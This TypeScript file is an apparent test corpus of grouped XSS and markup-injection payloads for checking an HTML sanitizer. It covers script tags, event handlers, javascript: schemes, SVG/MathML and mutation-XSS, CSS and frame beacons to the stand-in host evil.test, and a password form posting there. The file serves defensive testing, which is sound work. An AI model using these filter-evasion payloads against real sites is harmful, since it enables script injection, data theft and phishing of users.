// Quire's corpus of hostile HTML: XSS and markup-injection vectors, grouped and named. Each one, if
// it ever executes, does something a browser test can see: a dialog (alert/confirm/prompt), a
// console line `XSS-MARKER-<id>`, or a request to http://evil.test/<id> (an origin no page of Quire
// ever uses). Written for Quire after the OWASP XSS filter evasion cheat sheet, PortSwigger's XSS
// cheat sheet, DOMPurify's test vectors and the published mutation-XSS research (noscript, style in
// SVG/MathML, namespace confusion); the payloads and their markers are Quire's own.
// Used by test/xss/sanitize-vectors.test.ts (the sanitizer alone) and test/e2e/xss.e2e.ts (every
// HTML field, loaded in Chromium).

export type Group =
  | 'script'
  | 'event-handler'
  | 'url-scheme'
  | 'svg-mathml'
  | 'mutation'
  | 'css'
  | 'attribute-breaking'
  | 'unclosed'
  | 'entity'
  | 'meta-base-link'
  | 'form'
  | 'frame-object'
  | 'dom-clobbering'
  | 'layout';

export interface XssVector {
  /** Short, unique, [a-z0-9] only: it appears in the payload's marker. */
  id: string;
  group: Group;
  name: string;
  html: string;
}

/** The marker origin: any request to it means a vector reached the network. */
export const EVIL_ORIGIN = 'http://evil.test';
export const CONSOLE_MARKER = 'XSS-MARKER-';

const al = (id: string) => `alert('${id}')`;
const cf = (id: string) => `confirm('${id}')`;
const pr = (id: string) => `prompt('${id}')`;
const cl = (id: string) => `console.log('${CONSOLE_MARKER}${id}')`;
const evil = (id: string) => `${EVIL_ORIGIN}/${id}`;
const b64 = (s: string) => Buffer.from(s).toString('base64');
/** Every character as a numeric character reference (`dec` or `hex`, optional zero padding and `;`). */
const refs = (s: string, hex: boolean, pad = 0, semi = true) =>
  [...s]
    .map((c) => {
      const n = hex ? c.charCodeAt(0).toString(16) : String(c.charCodeAt(0));
      return `&#${hex ? 'x' : ''}${n.padStart(pad, '0')}${semi ? ';' : ''}`;
    })
    .join('');

type Make = (id: string) => string;
const GROUPS: Record<Group, [string, Make][]> = {
  script: [
    ['plain script', (id) => `<script>${al(id)}</script>`],
    ['mixed-case tag', (id) => `<ScRiPt>${cl(id)}</sCrIpT>`],
    ['external src', (id) => `<SCRIPT SRC=${evil(id)}.js></SCRIPT>`],
    ['protocol-relative src', (id) => `<script src=//evil.test/${id}></script>`],
    ['slash instead of space', (id) => `<script/xss>${al(id)}</script>`],
    ['newline in tag', (id) => `<script\n>${cf(id)}</script\n>`],
    ['double open bracket', (id) => `<<script>${al(id)};//<</script>`],
    ['nested split tag', (id) => `<scr<script>ipt>${al(id)}</scr</script>ipt>`],
    ['attribute with > before src', (id) => `<SCRIPT a=">" SRC="${evil(id)}"></SCRIPT>`],
    ['bare = with > before src', (id) => `<SCRIPT =">" SRC="${evil(id)}"></SCRIPT>`],
    ['mixed quotes before src', (id) => `<SCRIPT a=">'>" SRC="${evil(id)}"></SCRIPT>`],
    [
      'document.write split',
      (id) => `<SCRIPT>document.write("<SCRI");</SCRIPT>PT SRC="${evil(id)}"></SCRIPT>`,
    ],
    ['module import', (id) => `<script type="module">import('${evil(id)}')</script>`],
    ['fetch beacon', (id) => `<script>fetch('${evil(id)}')</script>`],
    ['breaking out of a paragraph', (id) => `</p><script>${pr(id)}</script><p>`],
    ['breaking out of an attribute', (id) => `"><script>${al(id)}</script>`],
    ['comment-hidden close', (id) => `<script>/*</script><img src=x onerror=${al(id)}>*/</script>`],
    ['event for=window', (id) => `<script for=window event=onload>${al(id)}</script>`],
    ['script in table', (id) => `<table><tr><td><script>${cl(id)}</script></td></tr></table>`],
    ['data: src', (id) => `<script src="data:text/javascript,${al(id)}"></script>`],
  ],
  'event-handler': [
    ['img onerror', (id) => `<img src=x onerror=${al(id)}>`],
    ['img onerror quoted', (id) => `<img src="x" onerror="${cl(id)}">`],
    ['mixed-case handler', (id) => `<img src=x oNeRrOr=${al(id)}>`],
    ['slashes as separators', (id) => `<img/src=x/onerror=${cf(id)}>`],
    ['newline before handler', (id) => `<img src=x\nonerror=${al(id)}>`],
    ['eval(src) with alt', (id) => `<img src=x:alert(alt) onerror=eval(src) alt='${id}'>`],
    ['entity-encoded handler body', (id) => `<img src=x onerror=alert&#40;'${id}'&#41;>`],
    ['unicode-escaped handler body', (id) => `<img src=x onerror="\\u0061lert('${id}')">`],
    ['indirect call', (id) => `<img src=x onerror=window['al'+'ert']('${id}')>`],
    ['atob call', (id) => `<img src=x onerror=top[atob('YWxlcnQ=')]('${id}')>`],
    ['fetch from handler', (id) => `<img src=1 onerror=fetch('${evil(id)}')>`],
    ['image alias', (id) => `<image src=x onerror=${al(id)}>`],
    ['svg onload', (id) => `<svg onload=${al(id)}>`],
    ['svg/onload', (id) => `<svg/onload=${cl(id)}>`],
    ['body onload', (id) => `<body onload=${al(id)}>`],
    ['body onpageshow', (id) => `<body onpageshow=${pr(id)}>`],
    ['details ontoggle', (id) => `<details open ontoggle=${al(id)}><summary>s</summary>d</details>`],
    ['input autofocus onfocus', (id) => `<input autofocus onfocus=${al(id)}>`],
    ['select autofocus', (id) => `<select autofocus onfocus=${cl(id)}></select>`],
    ['textarea autofocus', (id) => `<textarea autofocus onfocus=${al(id)}></textarea>`],
    ['anchor tabindex autofocus', (id) => `<a id=x tabindex=1 onfocus=${al(id)} autofocus>a</a>`],
    ['video source onerror', (id) => `<video><source onerror=${al(id)}></video>`],
    ['audio onerror', (id) => `<audio src=x onerror=${cl(id)}></audio>`],
    ['input type=image onerror', (id) => `<input type=image src=x onerror=${al(id)}>`],
    ['marquee onstart', (id) => `<marquee onstart=${al(id)}>m</marquee>`],
    ['style onload', (id) => `<style onload=${al(id)}></style>`],
    ['iframe onload', (id) => `<iframe onload=${cf(id)}></iframe>`],
    ['frameset onload', (id) => `<frameset onload=${al(id)}>`],
    ['onclick on link', (id) => `<a href="#" onclick="${al(id)}">click</a>`],
    ['onmouseover on paragraph', (id) => `<p onmouseover="${al(id)}">hover</p>`],
    ['unclosed handler tag', (id) => `<img src=x onerror=${al(id)}//`],
    ['vertical tab before =', (id) => `<img src=x onerror\x0b=${al(id)}>`],
  ],
  'url-scheme': [
    ['javascript: href', (id) => `<a href="javascript:${al(id)}">a</a>`],
    ['mixed case', (id) => `<a href="JaVaScRiPt:${cl(id)}">a</a>`],
    ['unquoted', (id) => `<a href=javascript:${al(id)}>a</a>`],
    ['leading space', (id) => `<a href=" javascript:${al(id)}">a</a>`],
    ['literal tab inside', (id) => `<a href="jav\tascript:${al(id)}">a</a>`],
    ['&#x09; inside', (id) => `<a href="jav&#x09;ascript:${al(id)}">a</a>`],
    ['&#x0A; inside', (id) => `<a href="jav&#x0A;ascript:${cf(id)}">a</a>`],
    ['&#x0D; inside', (id) => `<a href="jav&#x0D;ascript:${al(id)}">a</a>`],
    ['&Tab; before colon', (id) => `<a href="javascript&Tab;:${al(id)}">a</a>`],
    ['&NewLine; inside', (id) => `<a href="java&NewLine;script:${al(id)}">a</a>`],
    ['&colon;', (id) => `<a href="javascript&colon;${al(id)}">a</a>`],
    ['&#58;', (id) => `<a href="javascript&#58;${pr(id)}">a</a>`],
    ['all decimal references', (id) => `<a href="${refs(`javascript:${al(id)}`, false)}">a</a>`],
    [
      'padded decimal, no semicolons',
      (id) => `<a href="${refs(`javascript:${al(id)}`, false, 7, false)}">a</a>`,
    ],
    ['hex, no semicolons', (id) => `<a href="${refs(`javascript:${al(id)}`, true, 0, false)}">a</a>`],
    ['&#14; before scheme', (id) => `<a href="&#14; javascript:${al(id)}">a</a>`],
    ['control character before scheme', (id) => `<a href="\x01javascript:${al(id)}">a</a>`],
    ['NUL inside scheme', (id) => `<a href="java\u0000script:${al(id)}">a</a>`],
    ['javascript:// with %0a', (id) => `<a href="javascript://%0a${al(id)}">a</a>`],
    ['percent-encoded parentheses', (id) => `<a href="javascript:alert%28'${id}'%29">a</a>`],
    ['lpar/rpar entities', (id) => `<a href="jAvAsCrIpT&colon;alert&lpar;'${id}'&rpar;">a</a>`],
    ['vbscript:', (id) => `<a href="vbscript:msgbox('${id}')">a</a>`],
    ['data:text/html', (id) => `<a href="data:text/html,<script>${al(id)}</script>">a</a>`],
    ['data: base64', (id) => `<a href="data:text/html;base64,${b64(`<script>${al(id)}</script>`)}">a</a>`],
    ['DATA: upper case', (id) => `<a href="DATA:text/html,<script>${al(id)}</script>">a</a>`],
    ['img javascript: src', (id) => `<img src="javascript:${al(id)}">`],
    ['img data: svg', (id) => `<img src="data:image/svg+xml,<svg onload=${al(id)}>">`],
    ['img protocol-relative', (id) => `<img src="//evil.test/${id}">`],
    ['img backslash-relative', (id) => `<img src="/\\evil.test/${id}">`],
    ['img double backslash', (id) => `<img src="\\\\evil.test/${id}">`],
    ['img tab before //', (id) => `<img src="\t//evil.test/${id}">`],
    ['href backslash-relative', (id) => `<a href="\\/evil.test/${id}">a</a>`],
    ['cite javascript:', (id) => `<blockquote cite="javascript:${al(id)}">q</blockquote>`],
    [
      'polyglot',
      (id) =>
        `jaVasCript:/*-/*\`/*\\\`/*'/*"/**/(/* */oNcliCk=${al(id)} )//%0D%0A%0d%0a//</stYle/</titLe/</teXtarEa/</scRipt/--!>\\x3csVg/<sVg/oNloAd=${al(id)}//>\\x3e`,
    ],
  ],
  'svg-mathml': [
    ['svg animate onbegin', (id) => `<svg><animate onbegin=${al(id)} attributeName=x dur=1s>`],
    [
      'svg xlink:href',
      (id) => `<svg><a xlink:href="javascript:${al(id)}"><text x=20 y=20>x</text></a></svg>`,
    ],
    [
      'svg set href',
      (id) => `<svg><a><set attributeName=href to="javascript:${al(id)}"/><text y=9>x</text></a></svg>`,
    ],
    ['svg script', (id) => `<svg><script>${al(id)}</script></svg>`],
    ['svg script href', (id) => `<svg><script href="data:,${cl(id)}"/></svg>`],
    ['svg image onerror', (id) => `<svg><image href=x onerror=${al(id)}></svg>`],
    ['svg style holds markup', (id) => `<svg><style><img src=x onerror=${al(id)}></style></svg>`],
    ['svg desc CDATA', (id) => `<svg><desc><![CDATA[</desc><script>${al(id)}</script>]]></svg>`],
    [
      'svg title CDATA',
      (id) => `<svg><title><![CDATA[</title><img src=x onerror=${al(id)}>]]></title></svg>`,
    ],
    [
      'svg foreignObject iframe',
      (id) =>
        `<svg><foreignObject><iframe srcdoc="<script>parent.${al(id)}</script>"></iframe></foreignObject></svg>`,
    ],
    [
      'svg use data:',
      (id) =>
        `<svg><use href="data:image/svg+xml;base64,${b64(`<svg id='x' xmlns='http://www.w3.org/2000/svg'><image href='1' onerror='${al(id)}'/></svg>`)}#x"/></svg>`,
    ],
    ['math href', (id) => `<math href="javascript:${al(id)}">click</math>`],
    [
      'math maction',
      (id) => `<math><maction actiontype=statusline xlink:href=javascript:${al(id)}>c</maction></math>`,
    ],
    ['mglyph style in table', (id) => `<math><mtext><table><mglyph><style><img src=x onerror=${al(id)}>`],
    ['math style breakout', (id) => `<math><mi><style><img src=x onerror=${cl(id)}></style></mi></math>`],
    ['svg animate values', (id) => `<svg><animate attributeName=href values="javascript:${al(id)}"/></svg>`],
    ['svg on root with xmlns', (id) => `<svg xmlns="http://www.w3.org/2000/svg" onload="${al(id)}"/>`],
  ],
  mutation: [
    ['noscript title', (id) => `<noscript><p title="</noscript><img src=x onerror=${al(id)}>"></noscript>`],
    ['template', (id) => `<template><img src=x onerror=${al(id)}></template>`],
    ['style holding an img', (id) => `<style><img src=x onerror=${al(id)}></style>`],
    [
      'form/math namespace confusion',
      (id) => `<form><math><mtext></form><form><mglyph><style></math><img src onerror=${al(id)}>`,
    ],
    ['svg p style', (id) => `<svg></p><style><a id="</style><img src=1 onerror=${cf(id)}>">`],
    [
      'mtext h1 mglyph',
      (id) =>
        `<math><mtext><h1><a><h6></a></h6><mglyph><svg><mtext><style><a title="</style><img src onerror=${al(id)}>"></style></h1>`,
    ],
    ['textarea', (id) => `<textarea><img src=x onerror=${al(id)}></textarea>`],
    ['title', (id) => `<title><img src=x onerror=${al(id)}></title>`],
    ['xmp', (id) => `<xmp><img src=x onerror=${al(id)}></xmp>`],
    ['noembed', (id) => `<noembed><img src=x onerror=${cl(id)}></noembed>`],
    ['noframes', (id) => `<noframes><img src=x onerror=${al(id)}></noframes>`],
    ['iframe content', (id) => `<iframe><img src=x onerror=${al(id)}></iframe>`],
    ['comment with --!>', (id) => `<!-- --!><img src=x onerror=${al(id)}> -->`],
    ['comment inside attribute', (id) => `<!--<img src="--><img src=x onerror=${al(id)}//">`],
    ['processing instruction', (id) => `<? foo="><script>${al(id)}</script>">`],
    ['CDATA in HTML', (id) => `<![CDATA[><img src=x onerror=${al(id)}>]]>`],
    ['listing re-parse', (id) => `<listing>&lt;img src=x onerror=${al(id)}&gt;</listing>`],
    ['select style', (id) => `<select><style></select><img src=x onerror=${pr(id)}></style>`],
    ['table style foster', (id) => `<table><td><style></td><img src=x onerror=${al(id)}>`],
    ['svg p style img', (id) => `<svg><p><style><img src="</style><img src=x onerror=${al(id)}//">`],
    ['caption svg style', (id) => `<div><table><caption><svg><style><img src=x onerror=${al(id)}>`],
    ['backtick attribute', (id) => `<span title="\`\`><img src=x onerror=${al(id)}>">s</span>`],
    ['img alt with < and title', (id) => `<img alt="<x" title="/><img src=x onerror=${al(id)}>">`],
  ],
  css: [
    ['background url()', (id) => `<div style="background:url(${evil(id)})">d</div>`],
    ['escaped url()', (id) => `<div style="background:\\75\\72\\6c(${evil(id)})">d</div>`],
    ['entity in url()', (id) => `<div style="background-image:u&#114;l(${evil(id)})">d</div>`],
    ['custom property url()', (id) => `<div style="--x:url(${evil(id)});background:var(--x)">d</div>`],
    ['expression()', (id) => `<div style="width: expression(${al(id)})">d</div>`],
    ['javascript: in url()', (id) => `<div style="background:url(&quot;javascript:${al(id)}&quot;)">d</div>`],
    ['behavior htc', (id) => `<div style="behavior: url(${evil(id)}.htc)">d</div>`],
    ['-moz-binding', (id) => `<div style="-moz-binding:url(${evil(id)}#x)">d</div>`],
    ['style @import', (id) => `<style>@import '${evil(id)}';</style>`],
    ['style body background', (id) => `<style>body{background:url("${evil(id)}")}</style>`],
    ['svg style @import', (id) => `<svg><style>@import url(${evil(id)});</style></svg>`],
    ['style hides the header', () => `<style>header,nav,footer{display:none!important}</style>`],
    [
      'style @font-face',
      (id) => `<style>@font-face{font-family:x;src:url(${evil(id)})}p{font-family:x}</style>`,
    ],
    ['img with style url()', (id) => `<img src=x style="content:url(${evil(id)})">`],
    ['table background attribute', (id) => `<table background="${evil(id)}"><tr><td>t</td></tr></table>`],
    ['td background attribute', (id) => `<table><tr><td background="${evil(id)}">t</td></tr></table>`],
    ['body background attribute', (id) => `<body background="${evil(id)}">`],
    ['img srcset', (id) => `<img src=x srcset="${evil(id)} 1x">`],
    ['picture source srcset', (id) => `<picture><source srcset="${evil(id)}"><img src=x></picture>`],
    ['video poster', (id) => `<video poster=${evil(id)}></video>`],
    ['input type=image src', (id) => `<input type=image src=${evil(id)}>`],
  ],
  'attribute-breaking': [
    ['single quotes then handler', (id) => `<a title='x' onmouseover='${al(id)}'>a</a>`],
    ['no space before handler', (id) => `<a title="x"onmouseover="${al(id)}">a</a>`],
    ['quote inside unquoted value', (id) => `<a title=x" onmouseover="${al(id)}">a</a>`],
    ['img no space before onerror', (id) => `<img alt="x" src="x"onerror="${cl(id)}">`],
    ['encoded quote in title', (id) => `<a href="/" title="&quot; onmouseover=&quot;${al(id)}">a</a>`],
    ['backtick-quoted value', (id) => `<a title=\`x\` onmouseover=${al(id)}>a</a>`],
    ['quote in an unquoted href', (id) => `<a href=https://ok.test/"onmouseover="${al(id)}">a</a>`],
    ['escaped quote in alt', (id) => `<img src="x" alt="\\"" onerror="${al(id)}">`],
    ['slash instead of space before href', (id) => `<a/href="javascript:${al(id)}">a</a>`],
    ['encoded markup in href', (id) => `<a href="&quot;><img src=x onerror=${cf(id)}>">a</a>`],
    ['title breaking into a tag', (id) => `<a title="a</a><img src=x onerror=${al(id)}>">a</a>`],
    ['encoded markup in title', (id) => `<p title="&lt;/p&gt;&lt;script&gt;${al(id)}&lt;/script&gt;">p</p>`],
    ['class with payload', (id) => `<p class="x onmouseover=${al(id)}">p</p>`],
    ['lang breaking out', (id) => `<p lang='en"><img src=x onerror=${al(id)}>'>p</p>`],
  ],
  unclosed: [
    ['img without >', (id) => `<img src=x onerror=${al(id)}`],
    ['svg without >', (id) => `<svg onload=${cl(id)}`],
    ['href left open', (id) => `<a href="javascript:${al(id)}`],
    ['script left open', (id) => `<script>${al(id)}`],
    ['iframe left open', (id) => `<iframe src=${evil(id)}`],
    ['style left open', (id) => `<style>body{background:url(${evil(id)})}`],
    ['formatting left open', () => `<b><i><u><s><small><big><sub><sup>left open`],
    ['thirty divs left open', () => '<div>'.repeat(30) + 'deep'],
    ['table left open', () => `<table><tr><td>cell<td>cell`],
    ['details left open', () => `<details open><summary>open`],
    ['closing the page early', () => `</div></div></article></main><footer>fake footer</footer><main>`],
    ['closing body and html', (id) => `</body></html><img src=x onerror=${al(id)}>`],
  ],
  entity: [
    ['escaped script stays text', (id) => `&lt;script&gt;${al(id)}&lt;/script&gt;`],
    ['decimal escaped script', (id) => `&#60;script&#62;${al(id)}&#60;/script&#62;`],
    ['hex escaped img', (id) => `&#x3C;img src=x onerror=${al(id)}&#x3E;`],
    ['escaped img in pre', (id) => `<pre>&lt;img src=x onerror=${cl(id)}&gt;</pre>`],
    ['double-escaped', (id) => `&amp;lt;script&amp;gt;${al(id)}&amp;lt;/script&amp;gt;`],
    ['JSON unicode escapes', (id) => `\\u003cscript\\u003e${al(id)}\\u003c/script\\u003e`],
    ['percent-encoded', (id) => `%3Cscript%3E${al(id)}%3C/script%3E`],
    ['full-width brackets', (id) => `＜script＞${al(id)}＜/script＞`],
    ['UTF-7', (id) => `+ADw-script+AD4-${al(id)}+ADw-/script+AD4-`],
    ['overlong UTF-8', (id) => `%C0%BCscript%C0%BE${al(id)}%C0%BC/script%C0%BE`],
    ['hex reference j', (id) => `<a href="&#x6a;avascript:${al(id)}">a</a>`],
    ['references in handler', (id) => `<img src=x onerror="&#97;lert('${id}')">`],
    ['entity-encoded tag in code', (id) => `<code>&lt;svg onload=${al(id)}&gt;</code>`],
  ],
  'meta-base-link': [
    ['meta refresh to evil', (id) => `<meta http-equiv="refresh" content="0;url=${evil(id)}">`],
    ['meta refresh javascript:', (id) => `<meta http-equiv="refresh" content="0;url=javascript:${al(id)}">`],
    [
      'meta refresh data:',
      (id) =>
        `<meta http-equiv="refresh" content="0;url=data:text/html;base64,${b64(`<script>${al(id)}</script>`)}">`,
    ],
    ['meta set-cookie', (id) => `<meta http-equiv="Set-Cookie" content="xss=${id}">`],
    ['base href to evil', (id) => `<base href="${evil(id)}/">`],
    ['base href javascript:', (id) => `<base href="javascript:${al(id)}//">`],
    ['link stylesheet', (id) => `<link rel=stylesheet href=${evil(id)}.css>`],
    ['link prefetch', (id) => `<link rel=prefetch href=${evil(id)}>`],
    ['link preload', (id) => `<link rel=preload as=image href=${evil(id)}>`],
    ['link onerror', (id) => `<link rel=stylesheet href=x onerror=${al(id)}>`],
    ['anchor ping', (id) => `<a ping="${evil(id)}" href="#top">a</a>`],
  ],
  form: [
    [
      'form action to evil',
      (id) => `<form action="${evil(id)}"><input name=password type=password><button>Log in</button></form>`,
    ],
    ['button formaction', (id) => `<form><button formaction="javascript:${al(id)}">b</button></form>`],
    [
      'button form= outside',
      (id) => `<form id=x></form><button form=x formaction=javascript:${al(id)}>b</button>`,
    ],
    ['input formaction', (id) => `<input type=submit formaction=javascript:${al(id)} value=s>`],
    ['isindex', (id) => `<isindex action=javascript:${al(id)} type=image>`],
    [
      'form autosubmit via autofocus',
      (id) => `<form action="${evil(id)}"><input autofocus onfocus=submit()></form>`,
    ],
  ],
  'frame-object': [
    ['iframe to evil', (id) => `<iframe src="${evil(id)}"></iframe>`],
    ['iframe javascript:', (id) => `<iframe src="javascript:parent.${al(id)}"></iframe>`],
    ['iframe srcdoc script', (id) => `<iframe srcdoc="<script>parent.${al(id)}</script>"></iframe>`],
    [
      'iframe srcdoc encoded',
      (id) => `<iframe srcdoc="&lt;img src=x onerror=parent.${al(id)}&gt;"></iframe>`,
    ],
    ['object data to evil', (id) => `<object data="${evil(id)}"></object>`],
    [
      'object data: html',
      (id) => `<object data="data:text/html;base64,${b64(`<script>parent.${al(id)}</script>`)}"></object>`,
    ],
    ['embed to evil', (id) => `<embed src="${evil(id)}">`],
    [
      'embed svg data:',
      (id) =>
        `<embed src="data:image/svg+xml;base64,${b64(`<svg xmlns='http://www.w3.org/2000/svg' onload='${al(id)}'/>`)}">`,
    ],
    ['applet', (id) => `<applet code="${evil(id)}.class"></applet>`],
    ['portal', (id) => `<portal src=${evil(id)}></portal>`],
    ['frameset frame', (id) => `<frameset><frame src="${evil(id)}"></frameset>`],
  ],
  'dom-clobbering': [
    ['id of a page element', () => `<a id="main" href="/">main</a><p id="site-nav">nav</p>`],
    ['form named getElementById', () => `<form name="getElementById"></form>`],
    ['img named cookie', () => `<img name="cookie" src=x>`],
    ['anchor named like a global', (id) => `<a id="quire" name="quire" href="javascript:${al(id)}">q</a>`],
    [
      'form with input named attributes',
      () => `<form id="f"><input name="attributes"><input name="action"></form>`,
    ],
    ['object named defaultView', () => `<object name="defaultView"></object>`],
    ['embed named body', () => `<embed name="body">`],
    ['two anchors with one id', (id) => `<a id=cfg></a><a id=cfg name=url href="${evil(id)}">c</a>`],
  ],
  layout: [
    [
      'position fixed overlay',
      (id) => `<p style="position:fixed;inset:0;background:red;z-index:99999">OVERLAY ${id}</p>`,
    ],
    [
      'absolute over the header',
      () =>
        `<div style="position:absolute;top:0;left:0;width:100vw;height:8rem;background:#fff">fake header</div>`,
    ],
    ['huge negative margin', () => `<p style="margin-top:-100vh">pulled up</p>`],
    ['transform out of the box', () => `<p style="transform:translateY(-100vh)">moved</p>`],
    ['site skip-link class', () => `<a class="skip-link" href="https://evil.test/phish">Log in again</a>`],
    ['site visually-hidden class', () => `<p class="visually-hidden">hidden text</p>`],
    ['img sized to the viewport', () => `<img src=x width=5000 height=5000 alt="big">`],
    ['marquee', () => `<marquee>moving</marquee>`],
    ['dir override', () => `<p dir="rtl">‮reversed text‬</p>`],
  ],
};

/** The whole corpus, ids assigned per group in order (e.g. `script01`). */
export const VECTORS: XssVector[] = Object.entries(GROUPS).flatMap(([group, list]) =>
  list.map(([name, make], i) => {
    const id = `${group.replace(/[^a-z]/g, '').slice(0, 6)}${String(i + 1).padStart(2, '0')}`;
    return { id, group: group as Group, name, html: make(id) };
  }),
);
